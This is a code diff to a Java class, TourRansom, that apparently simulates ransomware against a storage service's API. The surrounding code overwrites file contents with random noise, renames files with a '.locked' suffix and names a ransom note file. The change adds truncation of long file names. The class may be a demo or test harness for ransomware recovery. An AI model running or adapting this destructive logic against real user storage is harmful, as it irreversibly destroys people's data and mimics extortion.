@@ -14,6 +14,7 @@ import java.util.SplittableRandom;
 /// nothing can be fetched back.
 final class TourRansom {
   private static final int OVERWRITE_AT_MOST_BYTES = 1 << 20;
+  private static final int LONGEST_KEPT = 120; // characters of up to two units, of 255 units
   private static final String NOTE = "READ-ME-TO-GET-YOUR-FILES-BACK.txt";
 
   private final TourClient client;
@@ -56,7 +57,17 @@ final class TourRansom {
     TourClient.good(
         "Overwriting", client.put(item + "/content", BodyPublishers.ofByteArray(noise)));
     TourClient.good(
-        "Renaming", client.json("PATCH", item, Map.of("name", file.file().name() + ".locked")));
+        "Renaming", client.json("PATCH", item, Map.of("name", locked(file.file().name()))));
+  }
+
+  // A name that is nearly as long as a name may be loses its end, as it would to any such program.
+  private static String locked(String name) {
+    String kept =
+        name.codePoints()
+            .limit(LONGEST_KEPT)
+            .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
+            .toString();
+    return kept + ".locked";
   }
 
   private void remove(TourKept file) throws IOException, InterruptedException {
